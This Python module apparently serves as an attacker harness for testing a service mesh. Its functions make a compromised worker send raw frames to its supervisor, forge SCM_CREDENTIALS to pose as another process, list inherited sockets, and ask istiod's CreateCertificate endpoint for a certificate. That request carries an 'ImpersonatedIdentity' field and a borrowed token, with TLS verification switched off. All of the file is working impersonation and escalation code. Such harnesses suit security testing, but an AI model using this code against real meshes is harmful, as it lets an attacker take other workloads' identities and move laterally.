"""What a worker that was taken over says to the supervisor and to the authority, to be taken for somebody else."""

import base64
import json
import os
import socket
import ssl
import stat
import struct
import zlib
from contextlib import suppress

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ResponseReceived, StreamEnded, StreamReset, TrailersReceived

from mesh.xds.pb.citadel_pb2 import IstioCertificateRequest

PATIENCE = 8.0
METHOD = "/istio.v1.auth.IstioCertificateService/CreateCertificate"
SCM_CREDENTIALS = 2


def say(supervisor: str, what: str) -> dict:
    """Say the bytes (base64 of what zlib made of them); what is heard until the awaited message, or the end of it."""
    asked, heard, rest = json.loads(what), [], b""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as mine:
        mine.settimeout(PATIENCE)
        mine.connect(supervisor)
        with suppress(BrokenPipeError):
            mine.sendall(zlib.decompress(base64.b64decode(asked["bytes"])))
        while not any(kind in one for one in heard for kind in asked["until"]):
            try:
                data = mine.recv(65536)
            except ConnectionResetError:
                data = b""
            except TimeoutError:
                return {"heard": heard, "hung up": False}
            if not data:
                return {"heard": heard, "hung up": True}
            rest += data
            while len(rest) >= 4 and len(rest) >= 4 + int.from_bytes(rest[:4], "big"):
                end = 4 + int.from_bytes(rest[:4], "big")
                heard.append(json.loads(rest[4:end]))
                rest = rest[end:]
    return {"heard": heard, "hung up": False}


def call_keeper(supervisor: str, path: str) -> str:
    """Speak at the keeper's own socket."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as mine:
        mine.connect(path)
    return "done"


def forge_credentials(supervisor: str, victim: str) -> str:
    """Say that one is another process, as root may (unix(7), SCM_CREDENTIALS)."""
    pid, uid = map(int, victim.split())
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as mine:
        mine.connect(supervisor)
        mine.sendmsg([b"x"], [(socket.SOL_SOCKET, SCM_CREDENTIALS, struct.pack("3i", pid, uid, uid))])
    return "done"


def belongings(_supervisor: str, _victim: str) -> list[str]:
    """What every descriptor is that it was born with, beside the log."""
    found = []
    for descriptor in range(3, 1024):
        with suppress(OSError):
            assert stat.S_ISSOCK(os.fstat(descriptor).st_mode), f"descriptor {descriptor} is no socket"
            with socket.socket(fileno=os.dup(descriptor)) as one:
                found.append(one.family.name if one.family == socket.AF_UNIX else f"port {one.getsockname()[1]}")
    return found


def ask_authority(_supervisor: str, wish: str) -> list[str]:
    """Ask for a certificate with any token there is; the status of gRPC, and its message."""
    asked = json.loads(wish)
    request = IstioCertificateRequest(csr=asked["csr"])
    request.metadata.update({"ImpersonatedIdentity": asked["identity"]})
    body = request.SerializeToString()
    head = [(":method", "POST"), (":scheme", "https"), (":authority", "istiod"), (":path", METHOD)]
    head += [("content-type", "application/grpc"), ("te", "trailers")]
    head += [("authorization", f"Bearer {asked['token']}")] if asked["token"] else []
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    plain = socket.socket()
    plain.settimeout(PATIENCE)
    plain.connect((asked["address"], asked["port"]))
    http = H2Connection(H2Configuration(header_encoding="utf-8", validate_inbound_headers=False))
    with context.wrap_socket(plain) as tls:
        http.initiate_connection()
        http.send_headers(1, head)
        http.send_data(1, b"\0" + len(body).to_bytes(4, "big") + body, end_stream=True)
        return _status(http, tls)


def _status(http: H2Connection, tls: ssl.SSLSocket) -> list[str]:
    told: dict[str, str] = {}
    while True:
        tls.sendall(http.data_to_send())
        data = tls.recv(65536)
        for event in http.receive_data(data):
            if isinstance(event, ResponseReceived | TrailersReceived):
                told.update(event.headers)
            if isinstance(event, StreamEnded | StreamReset):
                return [told.get("grpc-status", "none"), told.get("grpc-message", "")]
        if not data:
            return ["hung up", ""]
